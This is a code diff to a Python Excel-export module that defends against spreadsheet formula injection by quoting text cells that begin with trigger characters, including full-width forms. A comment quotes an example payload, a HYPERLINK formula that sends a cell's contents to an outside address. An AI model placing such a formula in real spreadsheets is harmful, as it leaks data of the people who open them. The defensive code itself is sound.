@@ -125,8 +125,9 @@ def start_import(*, scope, user, kind: str, org_unit, upload) -> Job:
 # A text cell starting with one of these is taken for a formula by Excel, WPS or LibreOffice: on
 # opening, when the cell is edited, or once the sheet is saved as CSV (OWASP, "CSV injection").
 # A person named =HYPERLINK("http://…"&A1,"点击") would otherwise run in the hands of whoever opens
-# the export, a regulator included. The full-width forms are there because Chinese input methods
-# type them and spreadsheet programs read them as the ASCII sign when a cell is entered.
+# the export, a regulator included. The full-width forms are there too: Chinese input methods type
+# them, and a spreadsheet program that folds them to the ASCII sign when a cell is re-entered
+# would otherwise see a formula; a quote before such a text costs nothing.
 FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
 # Written before such a text, as OWASP advises; the cell is stored as a string cell as well, so
 # no program evaluates it even where the quote is not understood.
@@ -184,9 +185,9 @@ class _Sheet(_TextSafe, Worksheet):
     @staticmethod
     def _set(cell, value) -> None:
         safe = _cell(cell.parent, value)
-        cell.value = None if safe is None else safe.value
+        cell.value = safe.value if safe is not None else None
         if safe is not None:
-            cell.data_type = safe.data_type
+            cell.data_type = safe.data_type  # after the value: setting it guesses the type again
 
 
 class _WriteOnlySheet(_TextSafe, WriteOnlyWorksheet):
@@ -208,7 +209,8 @@ class _Workbook(Workbook):
 def new_workbook(*, write_only: bool = False) -> Workbook:
     """A workbook whose sheets write text as text (``ws.append``, ``ws.cell(value=…)``,
     ``ws["A1"] = …``) and numbers and dates as numbers and dates. The only way the product
-    makes a workbook; ``tests/test_excel_writer.py`` fails on any other."""
+    makes a workbook; ``tests/jobs/test_excel_writer.py`` fails on
+    any other."""
     return _Workbook(write_only=write_only)
 
 
